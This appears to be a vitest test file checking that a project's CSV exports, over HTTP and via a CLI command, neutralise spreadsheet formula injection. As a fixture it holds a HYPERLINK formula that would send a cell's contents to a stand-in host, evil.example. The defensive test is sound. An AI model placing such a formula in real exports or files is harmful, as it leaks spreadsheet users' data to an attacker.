// Every CSV the project writes neutralises formula-like cells (issue #15, finding 9; OWASP's CSV injection
// rule): an area named as a spreadsheet formula, imported through core/areas, comes out of the export over
// HTTP and from `cype export` with a single quote before it, while plain numbers (-1.5) stay numbers.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { Command } from 'commander';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { send as sendPlugin } from '../../services/send/plugin.js';
import { registerExportCommand } from '../../src/cli/export.js';
import { csvCell } from '../../src/core/ingest/csv.js';
import { findImportFormat, runImport } from '../../src/core/ingest/index.js';
import { exampleCsv, importFormats } from '../../src/core/ingest/registry.js';
import { type Database, openDatabase } from '../../src/db.js';
import { seedDemo } from '../../src/seed-demo.js';
import { testApp } from '../harness.js';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
const EVIL_CODE = 'E07999999';
const KENT = 'E10000016';
const QUERY = { codes: 'SEND_EHCP_WITHIN_20_WEEKS', area: EVIL_CODE, period: '2016|CY' };

let dir: string;
let db: Database;
beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cype-csv-injection-'));
  db = await openDatabase({ dataDir: path.join(dir, 'data'), migrate: true, owner: 'vitest' });
  await seedDemo(db, [sendPlugin], 0.002);
  const report = await runImport({
    db,
    format: findImportFormat('core/areas', [])!,
    input: Readable.from([`code,name,level,parent_code\n${EVIL_CODE},"${EVIL.replace(/"/g, '""')}",LAD,${KENT}\n`]),
    fileName: 'areas.csv',
    ranBy: 'vitest',
  });
  expect(report.errors).toEqual([]);
});
afterAll(async () => {
  await db?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

/** The area's name cell as a spreadsheet reads it: the parsed CSV value. */
const ladName = (csv: string) => (parse(csv, { columns: true }) as Record<string, string>[])[0].lad_name;

describe('CSV injection', () => {
  it('the rule: =, +, -, @, tab and CR starts get a quote; plain numbers and other text do not', () => {
    for (const v of ['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\tx', '\r=1', '-', '+']) expect(csvCell(v)).toMatch(/^"?'/);
    for (const v of ['-1.5', '+2', '12', '-3e5', '.5', 'Kent', 'c', 'x', 'a=b']) expect(csvCell(v)).toBe(v);
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    for (const f of importFormats([sendPlugin])) expect(exampleCsv(f)).not.toMatch(/(^|,)[=@]/m);
  });

  it('over HTTP', async () => {
    const app = testApp(db, { services: [sendPlugin] });
    const res = await app.fetch(`/export/indicators.csv?${new URLSearchParams(QUERY)}`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(ladName(csv)).toBe(`'${EVIL}`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('from cype export', async () => {
    await db.close();
    const saved = {
      dir: process.env.CYPE_DATA_DIR,
      url: process.env.DATABASE_URL,
      services: process.env.CYPE_SERVICES,
    };
    process.env.CYPE_DATA_DIR = path.join(dir, 'data');
    delete process.env.DATABASE_URL;
    process.env.CYPE_SERVICES = 'send';
    const out = path.join(dir, 'export.csv');
    try {
      const program = new Command().exitOverride();
      registerExportCommand(program);
      await program.parseAsync(
        ['export', '--codes', QUERY.codes, '--area', QUERY.area, '--period', QUERY.period, '--out', out],
        {
          from: 'user',
        },
      );
    } finally {
      for (const [k, v] of Object.entries({
        CYPE_DATA_DIR: saved.dir,
        DATABASE_URL: saved.url,
        CYPE_SERVICES: saved.services,
      })) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
      db = await openDatabase({ dataDir: path.join(dir, 'data'), migrate: true, owner: 'vitest' });
    }
    expect(ladName(fs.readFileSync(out, 'utf8'))).toBe(`'${EVIL}`);
  });
});
